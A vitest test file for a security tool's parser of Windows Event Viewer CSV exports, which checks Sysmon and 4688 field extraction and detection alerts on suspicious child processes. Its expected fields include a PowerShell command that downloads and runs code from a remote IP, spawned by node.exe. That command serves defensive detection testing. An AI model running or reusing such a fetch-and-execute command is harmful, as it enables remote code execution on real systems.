/**
 * Event Viewer's "Save All Events As… → CSV": five named columns and the rendered message in a
 * sixth, unnamed one. The fixture is written as Event Viewer writes it (a BOM, CRLF, the message
 * quoted with its CRLF lines); Sysmon's data items come back from its message by name, 4688's
 * process lines by label, anything else keeps its message.
 */
import { readFileSync } from 'node:fs';
import { Readable } from 'node:stream';
import { describe, expect, it } from 'vitest';
import type { Alert } from '../../src/alerts/alert.js';
import { loadPacks } from '../../src/alerts/pack.js';
import { EventPipeline } from '../../src/alerts/pipeline.js';
import { eventViewerCsvReader } from '../../src/sources/eventviewer-csv.js';
import { sniffFormat } from '../../src/sources/open.js';
import { fixture, readWith } from './helpers.js';

const FILE = fixture('../windows/eventviewer-save-as.csv');
const read = (text: string | Buffer) => readWith(eventViewerCsvReader, Readable.from([Buffer.from(text)]), 'events.csv');

describe('eventviewer-csv', () => {
  it("is sniffed by Event Viewer's header, BOM or not", () => {
    const text = readFileSync(FILE, 'utf8');
    expect(sniffFormat(text)?.format).toBe('eventviewer-csv');
    expect(sniffFormat(text.replace(/^\uFEFF/, ''))?.format).toBe('eventviewer-csv');
    expect(sniffFormat('Level,Date and Time,Source,Event ID,Task Category,Extra\r\n')?.format).not.toBe('eventviewer-csv');
  });

  it('reads Sysmon data items from the message by name, with the time of its UtcTime', async () => {
    const { events, bad } = await read(readFileSync(FILE));
    expect(bad).toEqual([]);
    expect(events.map((e) => [e.source.line, e.category, e.service])).toEqual([
      [2, 'network_connection', 'sysmon'],
      [21, 'process_creation', 'sysmon'],
      [45, 'process_creation', 'security'],
      [69, undefined, undefined],
    ]);
    const [connect, create] = events;
    expect(connect).toMatchObject({ time: Date.UTC(2026, 10, 27, 9, 14, 3, 500), user: 'CORP\\alice' });
    expect(connect!.fields).toMatchObject({ EventID: 3, Channel: 'Microsoft-Windows-Sysmon/Operational', Image: 'C:\\Program Files\\nodejs\\node.exe', DestinationIp: '203.0.113.66', DestinationPort: '443' });
    expect(create).toMatchObject({ time: Date.UTC(2026, 10, 27, 9, 14, 2, 120) });
    expect(create!.fields).toMatchObject({
      Image: 'C:\\Windows\\System32\\cmd.exe',
      CommandLine: 'C:\\WINDOWS\\system32\\cmd.exe /d /s /c "whoami"',
      ParentImage: 'C:\\Program Files\\nodejs\\node.exe',
      Product: 'Microsoft® Windows® Operating System',
    });
  });

  it("reads 4688's process lines by label into the data items the Security mapping reads; no time without a zone", async () => {
    const { events } = await read(readFileSync(FILE));
    const security = events[2]!;
    expect(security.time).toBeUndefined();
    expect(security.fields).toMatchObject({
      EventID: 4688,
      Channel: 'Security',
      Image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
      ParentImage: 'C:\\Program Files\\nodejs\\node.exe',
      ParentProcessId: '0x1ae0',
      CommandLine: `powershell -nop -c "IEX(New-Object Net.WebClient).DownloadString('http://203.0.113.66/a')"`,
    });
    expect(events[3]!.fields).toMatchObject({ EventID: 26, Provider_Name: 'Application Popup', Level: 'Error', Message: expect.stringContaining('setup.exe') });
  });

  it('a row without an event id is one bad record with its line; the rows around it are read', async () => {
    const text = 'Level,Date and Time,Source,Event ID,Task Category\r\nInformation,x,Sysmon,,None,"Process Create:\r\nImage: a"\r\nInformation,x,Sysmon,1,None,"Process Create:\r\nImage: C:\\b.exe"\r\n';
    const { events, bad } = await read(text);
    expect(bad).toEqual([{ file: 'events.csv', format: 'eventviewer-csv', line: 2, reason: 'not an Event Viewer row (no Source or Event ID)' }]);
    expect(events.map((e) => e.fields.Image)).toEqual(['C:\\b.exe']);
  });

  it("gives the seed pack's arm 1 on the Sysmon and the Security process creations", async () => {
    const { packs } = await loadPacks(['seed']);
    const pipeline = new EventPipeline(packs, { now: 0 });
    const { events } = await read(readFileSync(FILE));
    const alerts: Alert[] = [];
    events.forEach((event, i) => pipeline.process(event, i + 1, alerts));
    pipeline.finish(alerts);
    expect(alerts.map((a) => [a.event.source.line, a.rule.title])).toEqual([
      [21, 'Package Manager Spawned Suspicious Child (seed arm 1)'],
      [45, 'Package Manager Spawned Suspicious Child (seed arm 1)'],
    ]);
  });

  it("a Source named like an object's own property is a provider like any other", async () => {
    const { events, bad } = await read('Level,Date and Time,Source,Event ID,Task Category\r\nInformation,11/27/2026 9:14:02 AM,constructor,7,None,"A message."\r\n');
    expect(bad).toEqual([]);
    expect(events[0]!.fields).toMatchObject({ EventID: 7, Provider_Name: 'constructor', Message: 'A message.' });
  });
});
